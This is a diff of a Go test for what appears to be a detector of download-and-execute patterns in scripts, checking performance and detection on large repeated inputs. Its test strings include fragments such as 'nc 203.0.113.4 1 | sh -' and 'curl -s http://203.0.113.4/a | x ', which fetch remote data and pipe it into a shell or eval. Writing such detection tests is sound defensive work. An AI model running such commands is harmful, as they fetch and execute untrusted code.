@@ -18,8 +18,8 @@ func TestManyFetches(t *testing.T) {
 		t.Fatal(err)
 	}
 	file := indicator.File{Path: "a.sh", Kind: trust.KindScript}
-	for _, piece := range []string{"curl -s | ", "curl -o x; ", "urlopen( exec(", "curl -s http://203.0.113.4/a | x "} {
-		body := []byte(strings.Repeat(piece, 1<<17/len(piece)))
+	for _, piece := range []string{"curl -s | ", "curl -o x; ", "urlopen( exec(", "curl -s http://203.0.113.4/a | x ", "nc 203.0.113.4 1 | sh -\n", "x http://203.0.113.4/a | eval(b)\n"} {
+		body := []byte(strings.Repeat(piece, 1<<16/len(piece)))
 		start := time.Now()
 		if got := indicatortest.Unread(ind, file, body, indicatortest.Drive{}); got == "" {
 			t.Errorf("%q: counts as read", piece)
